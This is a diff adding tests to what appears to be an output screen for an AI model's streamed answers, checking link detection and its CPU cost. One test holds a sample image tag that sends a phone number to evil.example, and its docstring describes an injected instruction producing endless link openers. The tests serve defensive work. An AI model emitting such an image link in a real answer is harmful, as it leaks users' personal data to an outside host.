@@ -109,6 +109,8 @@ _FRAGMENTS = [
     "<im",
     "htt",
     ")",
+    "<img <img ",
+    "https://ahttps://a",
 ]
 _CHARS = "あい佐藤花子0123-[]()!<>hH:/ 。、\n様さんhttps.exampleimgHTTPS&#;'"
 _TEXT = st.lists(
@@ -312,6 +314,54 @@ def test_the_detector_reads_bounded_windows_not_the_whole_answer() -> None:
     # A look reads the left context and what is held, and comes once per few characters.
     assert max(det.windows) <= _CONTEXT + 60
     assert len(det.windows) <= len(answer) / 4
+
+
+def _screened_chars(answer: str) -> tuple[int, str]:
+    det = _Counting()
+    screen = OutputScreen(OutputRules(), request_text=REQUEST, detector=det)
+    det.windows.clear()
+    got, _ = _stream(screen, _cut(answer, [7, 3]))
+    return sum(det.windows), got
+
+
+@pytest.mark.parametrize("opener", ["<img ", "https://a", "<video ", "![", "[a]("])
+def test_an_answer_of_link_openers_costs_what_plain_text_costs(opener: str) -> None:
+    """A hostile answer that opens link after link and closes none (an upstream, or an
+    injected instruction, writing ``<img <img …``) is screened with about the work of
+    plain text of its length (was: a look every five characters of the 400 held, 16 to
+    18 times the work, 8 s of CPU for 4,000 characters), and what follows is screened."""
+    evil = '<img src="https://evil.example/p.png?d=080-9876-5432">'
+    answer = opener * (6000 // len(opener)) + "。" + evil
+    work, got = _screened_chars(answer)
+    plain, _ = _screened_chars("あいうえお" * (len(answer) // 5))
+    assert work <= 2 * plain, (work, plain)
+    assert "evil.example" not in got and "9876" not in got
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    st.lists(
+        st.sampled_from(
+            ["<img ", "<IMG", "https://", "http://a", "h", "a", ">", " ", "'", "[", "](", "!", "<"]
+        ),
+        max_size=40,
+    ).map("".join)
+)
+def test_the_open_links_are_every_opener_whose_text_still_matches(text: str) -> None:
+    """After every character the links held open are exactly the openers (! [ < h H) from
+    which every prefix up to here matches its open pattern: the tails read one character
+    at a time decide what the full match from each start decides."""
+    openers = {"!": _MD_OPEN, "[": _MD_OPEN, "<": _IMG_OPEN, "h": _URL_OPEN, "H": _URL_OPEN}
+    s = OutputStream(_screen(new_personal="off"))
+    for c in range(1, len(text) + 1):
+        s.feed(text[c - 1])
+        expected = [
+            (i, openers[text[i]])
+            for i in range(c)
+            if text[i] in openers
+            and all(openers[text[i]].fullmatch(text, i, k) for k in range(i + 1, c + 1))
+        ]
+        assert s._open == expected, (text[:c], s._open, expected)
 
 
 # ---------------------------------------------------------------------- joints between parts
